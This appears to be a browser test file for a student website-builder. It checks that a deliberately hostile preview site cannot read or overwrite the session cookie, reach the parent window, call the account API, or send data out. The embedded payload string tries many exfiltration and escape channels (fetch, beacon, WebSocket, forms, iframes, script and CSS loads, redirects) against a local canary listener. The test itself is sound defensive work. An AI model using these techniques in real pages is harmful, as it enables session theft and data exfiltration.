import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, expect, test } from "vitest";
import { startBrowserAndServer } from "#tests/kit/browser/browser-and-server.ts";
import { registerStudent } from "#tests/kit/browser/signed-in.ts";
import { haveSiteKit } from "#tests/website/aids.ts";

await haveSiteKit();
const { browser, server } = await startBrowserAndServer();

/** A listener that nothing of a site may reach. */
const reached: string[] = [];
const canary = createServer((request, response) => {
  reached.push(request.url ?? "");
  response.end("reached");
});
await new Promise<void>((resolve) => canary.listen(0, "127.0.0.1", resolve));
afterAll(() => void canary.close());
const { port } = canary.address() as AddressInfo;

/** Tries every way out, and reports what it could read. */
const hostile = (app: string) => `
const out = "http://127.0.0.1:${port}";
const found: Record<string, string> = {};
const attempt = (name: string, work: () => unknown) => {
  try {
    const value = work();
    found[name] = value === undefined ? "none" : "done " + String(value).slice(0, 60);
  } catch (error) {
    found[name] = "refused";
  }
};
attempt("cookie", () => document.cookie);
attempt("overwrite", () => { document.cookie = "lamplight_token=stolen; path=/"; return document.cookie; });
attempt("parent", () => window.parent.document.title);
attempt("top", () => window.top!.localStorage.length);
attempt("database", () => { indexedDB.open("x").onsuccess = () => { found["opened"] = "done"; }; });
attempt("fetch", () => { fetch(out + "/fetch").catch(() => undefined); });
attempt("api", () => { fetch("${app}/v1/auth/get_user", { credentials: "include" }).then(() => { found["called"] = "done"; }, () => undefined); });
attempt("image", () => { new Image().src = out + "/image"; });
attempt("beacon", () => { navigator.sendBeacon(out + "/beacon", "x"); });
attempt("socket", () => { new WebSocket(out.replace("http", "ws") + "/socket"); });
attempt("events", () => { new EventSource(out + "/events"); });
attempt("worker", () => { new Worker(URL.createObjectURL(new Blob(["fetch('" + out + "/worker')"]))); });
attempt("form", () => { const form = document.createElement("form"); form.action = out + "/form"; form.method = "post"; document.body.append(form); form.submit(); });
attempt("popup", () => window.open(out + "/popup") ?? undefined);
attempt("script", () => { const tag = document.createElement("script"); tag.src = out + "/script"; document.head.append(tag); });
attempt("inline", () => { const tag = document.createElement("script"); tag.textContent = "window.ran = 1"; document.head.append(tag); return (window as any).ran; });
attempt("eval", () => (0, eval)("1 + 1"));
attempt("style", () => { const tag = document.createElement("style"); tag.textContent = "@import '" + out + "/css'; body{background:url(" + out + "/background)}"; document.head.append(tag); });
attempt("frame", () => { const tag = document.createElement("iframe"); tag.src = out + "/frame"; document.body.append(tag); });
attempt("blank", () => { const tag = document.createElement("iframe"); document.body.append(tag); return (tag.contentWindow as any).RTCPeerConnection; });
attempt("refresh", () => { const tag = document.createElement("meta"); tag.httpEquiv = "refresh"; tag.content = "3;url=" + out + "/refresh"; document.head.append(tag); });
attempt("rtc", () => (window as any).RTCPeerConnection ?? (window as any).webkitRTCPeerConnection);
attempt("import", () => { import(/* @vite-ignore */ [out, "import.js"].join("/")).catch(() => undefined); });
(window as any).found = found;
document.querySelector("#root")!.textContent = "tried";
setTimeout(() => { try { window.top!.location.href = out + "/top"; } catch { found["top navigation"] = "refused"; } location.href = out + "/leave"; }, 1500);
`;

test("a hostile site reaches neither the account nor the network, in the preview and as a tab", async () => {
  const { student, user } = await registerStudent(browser, server.origin);
  const { page } = student;
  await page.setBypassCSP(false);
  const { _id: id } = await user.client.website.createProject({ name: "Hostile" });
  await user.client.website.putSiteFile({ id, path: "/src/main.tsx", text: hostile(server.origin) });
  const { devServer } = await user.client.website.startPreview({ id });
  expect(devServer.faults).toEqual([]);
  const readFound = async () => {
    const frame = page.frames().find((one) => one.url().endsWith("/?frame"));
    return frame
      ?.evaluate(() => (globalThis as unknown as { found: Record<string, string> }).found)
      .catch(() => undefined);
  };
  try {
    const tries: Record<string, string>[] = [];
    for (const address of [`${server.origin}/website/${id}`, devServer.dev_url ?? ""]) {
      await page.goto(address);
      if (address.startsWith(server.origin)) await student.press("button", "Start preview").catch(() => undefined);
      await expect.poll(readFound, { timeout: 30_000 }).toBeDefined();
      tries.push((await readFound()) ?? {});
      // Long enough for the site to try to leave.
      await new Promise((resolve) => setTimeout(resolve, 4000));
      expect(page.url()).toBe(address);
    }
    for (const found of tries) {
      for (const name of ["cookie", "overwrite", "parent", "top", "eval", "blank"])
        expect([name, found[name]]).toEqual([name, "refused"]);
      for (const name of ["popup", "rtc", "inline"]) expect([name, found[name]]).toEqual([name, "none"]);
      expect([found["opened"], found["called"]]).toEqual([undefined, undefined]);
    }
    expect(reached).toEqual([]);
    const cookies = await page.browserContext().cookies();
    expect(cookies.find(({ name }) => name === "lamplight_token")?.value).toBe(user.token);
  } finally {
    await student.close();
  }
});
